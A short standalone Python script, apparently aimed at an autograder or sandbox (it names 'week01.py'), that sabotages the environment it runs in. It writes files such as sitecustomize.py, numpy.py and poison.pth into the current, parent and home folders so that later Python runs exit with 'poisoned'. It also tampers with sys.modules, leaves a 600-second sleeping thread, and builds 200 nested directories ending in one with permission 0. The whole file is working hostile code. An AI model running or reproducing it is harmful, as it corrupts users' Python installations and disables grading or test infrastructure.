import os
import sys
import threading
import time

for _name in ("sitecustomize.py", "usercustomize.py", "numpy.py", "week01.py", "poison.pth", "matplotlibrc"):
    for _folder in (".", "..", os.path.expanduser("~"), sys.path[0]):
        try:
            with open(os.path.join(_folder, _name), "w") as _file:
                _file.write("raise SystemExit('poisoned')\n")
        except OSError:
            pass
sys.modules["numpy.poisoned"] = sys.modules.pop("scipy.ndimage", None)
threading.Thread(target=time.sleep, args=(600,)).start()
_deep = "d"
for _ in range(200):
    os.makedirs(_deep, exist_ok=True)
    os.chdir(_deep)
try:
    os.chmod(".", 0)
except OSError:
    pass
